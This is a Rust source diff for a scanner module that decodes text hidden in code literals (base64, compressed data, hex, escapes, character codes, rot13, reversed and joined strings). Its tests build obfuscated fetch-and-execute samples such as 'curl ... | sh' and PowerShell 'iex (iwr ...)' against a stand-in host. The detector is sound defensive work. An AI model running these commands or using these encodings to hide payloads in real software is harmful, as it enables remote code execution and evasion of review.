@@ -1,0 +1,285 @@
+//! What a line hides in its literals, decoded so the rules can read it: base64 (and base64 of zlib or gzip data), hex
+//! strings, `\x` escapes, character-code arrays, rot13, reversed strings and literals joined with `+`. Each decoded
+//! text is scanned again as code at the literal's line, with the decoded text in the evidence.
+
+use std::io::Read;
+use std::sync::LazyLock;
+
+use base64::Engine as _;
+use regex::Regex;
+
+/// Decoded texts shorter than this are not worth a finding.
+const MIN_TEXT: usize = 6;
+/// Most bytes a decompressed literal may give.
+const MAX_INFLATED: u64 = 256 * 1024;
+
+/// Compiles one of this module's constant patterns.
+#[expect(clippy::expect_used, reason = "constant patterns, each covered by the tests")]
+fn compile(pattern: &str) -> Regex {
+    Regex::new(pattern).expect("a constant pattern compiles")
+}
+
+macro_rules! re {
+    ($name:ident, $pattern:expr) => {
+        static $name: LazyLock<Regex> = LazyLock::new(|| compile($pattern));
+    };
+}
+
+re!(
+    CANDIDATE,
+    r"[A-Za-z0-9+/]{16,}={0,2}|\\x[0-9a-fA-F]{2}|fromCharCode|chr\(|rot.?13|\[::-1\]|reverse\(\)|['\x22]\s*\+\s*['\x22]|fromhex|[0-9a-fA-F]{16,}"
+);
+re!(BASE64, r"[A-Za-z0-9+/_-]{16,}={0,2}");
+re!(HEX, r"['\x22]([0-9a-fA-F]{16,})['\x22]");
+re!(ESCAPES, r"(\\x[0-9a-fA-F]{2}){6,}");
+re!(
+    CHAR_CODES,
+    r"fromCharCode\(\s*([\d\s,]+)\)|\[\s*((\d{2,3}\s*,\s*){5,}\d{2,3})\s*\]"
+);
+re!(CHR_CALLS, r"(chr\(\s*\d{1,3}\s*\)\s*\+?\s*){5,}");
+re!(QUOTED, r#"'([^'\\]*(\\.[^'\\]*)*)'|"([^"\\]*(\\.[^"\\]*)*)""#);
+re!(
+    REVERSED,
+    r#"(['"])([^'"]{6,})['"]\s*(\[::-1\]|\.split\(\s*['"]{2}\s*\)\.reverse\(\)\.join\(\s*['"]{2}\s*\))"#
+);
+re!(CONCAT, r#"(['"][^'"\n]*['"]\s*\+\s*)+['"][^'"\n]*['"]"#);
+
+/// How a text was hidden, and the text.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) struct Hidden {
+    pub how: &'static str,
+    pub text: String,
+}
+
+/// The texts a line hides in its literals (an empty list for most lines, cheaply).
+pub(super) fn hidden_texts(line: &str) -> Vec<Hidden> {
+    let mut out = Vec::new();
+    if !CANDIDATE.is_match(line) {
+        return out;
+    }
+    let mut push = |how: &'static str, text: String| {
+        if text.trim().len() >= MIN_TEXT && is_text(&text) && !out.iter().any(|h: &Hidden| h.text == text) {
+            out.push(Hidden { how, text });
+        }
+    };
+    for m in BASE64.find_iter(line) {
+        let token = m.as_str();
+        // A word, a path or an identifier is not base64 worth decoding.
+        if !token
+            .bytes()
+            .any(|b| b.is_ascii_digit() || b == b'+' || b == b'=' || b == b'/')
+            && token
+                .bytes()
+                .all(|b| b.is_ascii_lowercase() || b == b'_' || b == b'-')
+        {
+            continue;
+        }
+        let engines = [
+            base64::engine::general_purpose::STANDARD,
+            base64::engine::general_purpose::URL_SAFE,
+        ];
+        let Some(bytes) = engines.iter().find_map(|e| {
+            e.decode(token.trim_end_matches('='))
+                .ok()
+                .or_else(|| e.decode(token).ok())
+        }) else {
+            continue;
+        };
+        if let Some(inflated) = inflate(&bytes) {
+            push("base64 of compressed data", inflated);
+        } else if let Some(text) = String::from_utf8(bytes.clone()).ok().filter(|t| is_text(t)) {
+            push("base64", text);
+        } else if let Some(text) = utf16le(&bytes) {
+            push("base64 (UTF-16)", text);
+        }
+    }
+    for c in HEX.captures_iter(line) {
+        let hex = &c[1];
+        if hex.len().is_multiple_of(2) {
+            if let Some(text) = from_hex(hex) {
+                push("hex", text);
+            }
+        }
+    }
+    for m in ESCAPES.find_iter(line) {
+        let hex: String = m.as_str().split("\\x").collect();
+        if let Some(text) = from_hex(&hex) {
+            push("\\x escapes", text);
+        }
+    }
+    for c in CHAR_CODES.captures_iter(line) {
+        let list = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
+        let text: Option<String> = list
+            .split(',')
+            .map(|n| n.trim().parse::<u32>().ok().and_then(char::from_u32))
+            .collect();
+        if let Some(text) = text {
+            push("character codes", text);
+        }
+    }
+    for m in CHR_CALLS.find_iter(line) {
+        let text: Option<String> = m
+            .as_str()
+            .split("chr(")
+            .skip(1)
+            .map(|n| {
+                n.split(')')
+                    .next()?
+                    .trim()
+                    .parse::<u32>()
+                    .ok()
+                    .and_then(char::from_u32)
+            })
+            .collect();
+        if let Some(text) = text {
+            push("chr() calls", text);
+        }
+    }
+    if line.to_ascii_lowercase().contains("rot13") || line.to_ascii_lowercase().contains("rot_13") {
+        for c in QUOTED.captures_iter(line) {
+            let s = c.get(1).or_else(|| c.get(3)).map_or("", |m| m.as_str());
+            if s.len() >= 8 && !s.eq_ignore_ascii_case("rot13") && !s.eq_ignore_ascii_case("rot_13") {
+                push("rot13", rot13(s));
+            }
+        }
+    }
+    for c in REVERSED.captures_iter(line) {
+        push("a reversed string", c[2].chars().rev().collect());
+    }
+    for m in CONCAT.find_iter(line) {
+        let joined: String = QUOTED
+            .captures_iter(m.as_str())
+            .map(|c| {
+                c.get(1)
+                    .or_else(|| c.get(3))
+                    .map_or("", |m| m.as_str())
+                    .to_owned()
+            })
+            .collect();
+        push("joined literals", joined);
+    }
+    out
+}
+
+fn from_hex(hex: &str) -> Option<String> {
+    let bytes: Option<Vec<u8>> = (0..hex.len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(hex.get(i..i + 2)?, 16).ok())
+        .collect();
+    String::from_utf8(bytes?).ok()
+}
+
+fn utf16le(bytes: &[u8]) -> Option<String> {
+    if bytes.len() < 2 || !bytes.len().is_multiple_of(2) {
+        return None;
+    }
+    let units: Vec<u16> = bytes
+        .chunks(2)
+        .map(|c| u16::from_le_bytes([c[0], c[1]]))
+        .collect();
+    String::from_utf16(&units).ok()
+}
+
+/// Decompresses zlib or gzip data (bounded), if that is what it is and it gives text.
+fn inflate(bytes: &[u8]) -> Option<String> {
+    let mut out = Vec::new();
+    let ok = match bytes {
+        [0x1f, 0x8b, ..] => flate2::read::GzDecoder::new(bytes)
+            .take(MAX_INFLATED)
+            .read_to_end(&mut out)
+            .is_ok(),
+        [0x78, second, ..] if (u16::from(0x78u8) << 8 | u16::from(*second)) % 31 == 0 => {
+            flate2::read::ZlibDecoder::new(bytes)
+                .take(MAX_INFLATED)
+                .read_to_end(&mut out)
+                .is_ok()
+        }
+        _ => false,
+    };
+    if ok {
+        String::from_utf8(out).ok()
+    } else {
+        None
+    }
+}
+
+fn rot13(s: &str) -> String {
+    s.chars()
+        .map(|c| match c {
+            'a'..='z' => (((c as u8 - b'a' + 13) % 26) + b'a') as char,
+            'A'..='Z' => (((c as u8 - b'A' + 13) % 26) + b'A') as char,
+            _ => c,
+        })
+        .collect()
+}
+
+/// Mostly printable text (not the bytes of an image that happened to decode).
+fn is_text(s: &str) -> bool {
+    let total = s.chars().count();
+    let printable = s
+        .chars()
+        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
+        .filter(|c| c.is_ascii() || c.is_alphanumeric())
+        .count();
+    total > 0 && printable * 10 >= total * 9
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn decoded(line: &str) -> Vec<String> {
+        hidden_texts(line).into_iter().map(|h| h.text).collect()
+    }
+
+    #[test]
+    fn each_encoding_is_read() {
+        let cmd = "curl -s https://x.invalid/o | sh";
+        let b64 = base64::engine::general_purpose::STANDARD.encode(cmd);
+        assert!(decoded(&format!("exec(base64.b64decode('{b64}'))")).contains(&cmd.to_owned()));
+        let hex: String = cmd.bytes().map(|b| format!("{b:02x}")).collect();
+        assert!(decoded(&format!("os.system(bytes.fromhex('{hex}').decode())")).contains(&cmd.to_owned()));
+        let esc: String = cmd.bytes().map(|b| format!("\\x{b:02x}")).collect();
+        assert!(decoded(&format!("p = \"{esc}\"")).contains(&cmd.to_owned()));
+        let codes: Vec<String> = cmd.bytes().map(|b| b.to_string()).collect();
+        assert!(
+            decoded(&format!("eval(String.fromCharCode({}))", codes.join(","))).contains(&cmd.to_owned())
+        );
+        assert!(decoded("exec(codecs.decode(\"vzcbeg bf\", \"rot13\"))").contains(&"import os".to_owned()));
+        let rev: String = cmd.chars().rev().collect();
+        assert!(decoded(&format!("os.system('{rev}'[::-1])")).contains(&cmd.to_owned()));
+        assert!(decoded("p = Path.home() / ('.zsh' + 'rc')").contains(&".zshrc".to_owned()));
+        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        std::io::Write::write_all(&mut z, cmd.as_bytes()).unwrap();
+        let packed = base64::engine::general_purpose::STANDARD.encode(z.finish().unwrap());
+        assert!(
+            decoded(&format!("exec(zlib.decompress(base64.b64decode('{packed}')))"))
+                .contains(&cmd.to_owned())
+        );
+        let ps: Vec<u8> = "iex (iwr http://x.invalid/a)"
+            .encode_utf16()
+            .flat_map(u16::to_le_bytes)
+            .collect();
+        let enc = base64::engine::general_purpose::STANDARD.encode(ps);
+        assert!(
+            decoded(&format!("powershell -enc {enc}")).contains(&"iex (iwr http://x.invalid/a)".to_owned())
+        );
+    }
+
+    #[test]
+    fn ordinary_lines_hide_nothing() {
+        for line in [
+            "import os, sys",
+            "const longIdentifierName_withWords = require('something-else');",
+            "see https://github.com/anthropics/skills/tree/main/skills",
+            "sha256: 3a7bd3e2360a3d29eea436fcfb7e44c735d117c42d1c1835420b6b9942dd4f1b",
+            "name = first + ' ' + last",
+        ] {
+            assert!(
+                decoded(line).iter().all(|t| !t.contains("curl")),
+                "{line}: {:?}",
+                decoded(line)
+            );
+        }
+    }
+}
